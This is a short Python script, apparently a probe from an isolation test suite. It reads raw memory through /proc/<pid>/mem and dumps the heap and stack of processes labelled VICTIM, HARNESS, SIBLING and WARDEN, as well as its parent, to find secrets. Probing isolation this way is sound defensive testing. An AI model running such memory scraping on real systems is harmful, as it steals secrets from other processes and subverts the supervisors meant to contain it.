# Reads the memory of other processes where the secrets are, and the heaps of its own ancestors.
import os
from proof import attempt, number, tokens


def peek(pid, address, size):
    fd = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
    tokens(os.pread(fd, size, address))


def heap(pid):
    for line in open(f"/proc/{pid}/maps"):
        if line.rstrip().endswith(("[heap]", "[stack]")):
            first, last = (int(it, 16) for it in line.split()[0].split("-"))
            attempt(peek, pid, first, min(last - first, 1 << 22))


for name in ("VICTIM", "HARNESS", "SIBLING"):
    attempt(peek, number(name + "_PID"), number(name + "_ADDRESS"), 128)
for pid in {os.getppid(), number("WARDEN_PID"), number("SIBLING_PID"), number("VICTIM_PID")}:
    attempt(heap, pid)
